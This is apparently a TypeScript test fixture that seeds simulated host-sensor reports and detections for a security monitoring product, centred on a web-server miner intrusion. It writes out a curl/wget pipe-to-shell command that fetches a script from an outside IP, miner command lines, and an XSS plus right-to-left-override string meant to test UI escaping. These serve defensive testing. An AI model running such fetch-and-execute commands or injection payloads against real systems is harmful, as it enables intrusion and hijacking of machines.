import { randomUUID } from 'node:crypto'
import type { Detection, Response, WatchState } from '../../model/index.ts'
import type { Report } from '../../model/wire/index.ts'
import { until } from '../center/until.ts'
import { healthOf } from './answering-now.ts'
import type { SeededCenter } from './seeded-center.ts'

/** What somebody who has a host could send: markup, and what turns the direction of text. */
export const hostileTitle = '<img src=x onerror="window.bad=1">\u202egnp.exe'

/** What a detection is called and the file that it is about. */
interface Named {
  readonly title: string
  readonly file: string
}

/** For pictures: what an honest host would have told. */
export const plainName: Named = { title: 'A job was added that runs a hidden program', file: 'sysupdate' }

/** Sensors and detections of the seeded hosts, as agents with sensors tell of them. Gives the id of the first detection of web-01. */
export async function noticed(
  { agents, admin, hosts }: SeededCenter,
  named: Named = { title: hostileTitle, file: hostileTitle },
): Promise<string> {
  const now = Date.now()
  const before = (minutes: number) => new Date(now - minutes * 60_000).toISOString()
  const told: Readonly<Record<string, readonly Report[]>> = {
    'web-01': [
      health(watching({ mode: 'block', denied: 3, killed: 2, wouldHave: 0 }, before(600))),
      ...minerAt('web-01', before, named).map(detection => ({ kind: 'detection', detection }) as const),
    ],
    'web-02': [health(watching({ mode: 'observe', wouldHave: 4 }, before(90), { exec: { lost: 317 } }))],
    'db-01': [
      health(
        watching({ mode: 'observe', problem: 'this kernel has no fanotify permission events' }, before(30), {
          exec: { source: 'polling', problem: 'no BTF: programs that end within a second are not seen' },
          files: { source: 'off', problem: 'the limit of inotify watches is reached' },
        }),
      ),
    ],
    'cache-01': [health({ ...watching({ mode: 'off', asked: 0, allowed: 0 }, before(5)), sensors: [] })],
  }
  for (const [name, reports] of Object.entries(told)) {
    const agent = agents.get(name)
    if (agent === undefined) continue
    for (const report of reports) agent.report(JSON.stringify(report), Date.now())
    await until('what was noticed is stored', () => agent.acknowledged === agent.made, {
      explain: () => [...agent.failures, ...agent.rejected].join('\n'),
    })
  }
  const { items } = await admin.api.listDetections({ query: { host: hosts.get('web-01') ?? '' } })
  return items.at(-1)?.id ?? ''
}

function health(watch: WatchState): Report {
  const report = healthOf([])
  return report.kind === 'health' ? { ...report, health: { ...report.health, watch } } : report
}

type Sensor = WatchState['sensors'][number]

function watching(
  prevention: Partial<WatchState['prevention']>,
  since: string,
  odd: Partial<Record<Sensor['name'], Partial<Sensor>>> = {},
): WatchState {
  const sources = {
    exec: 'tracepoint',
    connections: 'sock_diag',
    files: 'fanotify',
    load: 'processes and cgroups',
    logins: 'journal, btmp, wtmp',
  }
  const sensors = Object.entries(sources).map(([name, source], place) => ({
    ...{ name: name as Sensor['name'], source, since, events: 41_870 >> (place * 2), lost: 0 },
    ...odd[name as Sensor['name']],
  }))
  return {
    sensors,
    prevention: {
      mode: 'observe',
      asked: 18_204,
      allowed: 18_201,
      denied: 0,
      late: 0,
      killed: 0,
      wouldHave: 0,
      ...prevention,
    },
    detections: 4,
  }
}

/** A web application is broken into; its shell fetches a miner, which may not start; the second try hides in memory and is ended. */
function minerAt(host: string, before: (minutes: number) => string, { title, file }: Named): Detection[] {
  const chain = [
    {
      pid: 20_411,
      name: 'sh',
      path: '/usr/bin/dash',
      command: 'sh -c (curl -fsSL 198.51.100.23/b.sh||wget -qO- 198.51.100.23/b.sh)|sh',
    },
    { pid: 912, name: 'php-fpm', path: '/usr/sbin/php-fpm8.4', command: 'php-fpm: pool www' },
    { pid: 1, name: 'systemd', path: '/usr/lib/systemd/systemd', command: '/usr/lib/systemd/systemd --system' },
  ]
  const rule = { id: 'exec-drop-place-by-service', title: 'A service starts a program from a temporary directory' }
  const finding = (because: string, at: string, pid: number, command: string): Detection['findings'][number] => ({
    rule,
    level: 'high',
    class: 'execution',
    specific: 'mining',
    conclusive: false,
    attack: ['T1059.004'],
    families: [],
    because,
    event: {
      kind: 'exec',
      at,
      pid,
      argv: command.split(' '),
      command,
      exeDeleted: false,
      exeInMemory: false,
      ancestors: chain,
    },
  })
  const did = (kind: Response['kind'], at: string, detail: string, more: Partial<Response> = {}): Response => ({
    ...{ kind, at, detail, outcome: 'done' as const },
    ...more,
  })
  const one = (at: string, more: Partial<Detection>): Detection => ({
    id: randomUUID(),
    at,
    verdict: 'confirmed',
    level: 'critical',
    title: 'A miner was kept from starting',
    because: ['php-fpm’s shell fetched and started a program that holds the words of a miner.'],
    subject: {
      kind: 'process',
      pid: 20_424,
      startTime: 611_404,
      path: `/var/tmp/.${host}/kthreadd2`,
      command: `/var/tmp/.${host}/kthreadd2 -o pool.example:3333 --donate-level 1`,
      user: 'www-data',
      sha256: 'b1'.repeat(32),
    },
    chain,
    findings: [finding('php-fpm started a program from /var/tmp through a shell.', at, 20_424, 'kthreadd2')],
    families: ['xmrig'],
    attack: ['T1496', 'T1059.004'],
    responses: [],
    afterMs: 11,
    ...more,
  })
  const [first, second, third, last] = [before(26), before(25), before(12), before(2)]
  return [
    one(first, {
      responses: [did('prevented', first, 'The start was denied before the first instruction.', { afterMs: 4 })],
      examination: {
        verdict: 'confirmed',
        because: ['Its content has the words of XMRig and the address of a pool.'],
        path: `/var/tmp/.${host}/kthreadd2`,
        sha256: 'b1'.repeat(32),
        ownership: 'unowned',
        matches: [{ rule: 'davylamp/xmrig_strings', words: ['donate-level'] }],
        memoryMatches: [],
        indicators: [],
        families: ['xmrig'],
        attack: ['T1496'],
      },
    }),
    one(second, {
      title: 'A miner ran from memory and was ended',
      subject: { kind: 'process', pid: 20_431, startTime: 611_900, command: '[kworker/u8:2]', user: 'www-data' },
      responses: [
        did('kill-process', second, 'The process was ended by its pidfd.', { afterMs: 212, run: 'r-noticed-1' }),
        did('block-address', second, '198.51.100.23 for 24 hours', { afterMs: 260, run: 'r-noticed-1' }),
        did('disarm-autostart', second, 'agent.yml does not allow it', { outcome: 'refused' }),
      ],
    }),
    one(third, {
      verdict: 'suspected',
      level: 'medium',
      title: 'A busy program that nothing vouches for keeps sending',
      because: ['It has taken a whole core for 11 minutes and speaks with one address outside.'],
      subject: {
        kind: 'load',
        pid: 3_120,
        path: '/opt/build/worker',
        command: '/opt/build/worker --jobs 4',
        user: 'ci',
      },
      chain: [],
      findings: [],
      families: [],
    }),
    one(last, {
      verdict: 'suspected',
      level: 'low',
      title,
      because: [title],
      subject: { kind: 'file', path: `/etc/cron.d/${file}`, user: file },
      chain: [{ pid: 7, name: file, command: file }],
      findings: [],
      families: [file],
      responses: [did('quarantine-file', last, title, { outcome: 'would' })],
    }),
  ]
}
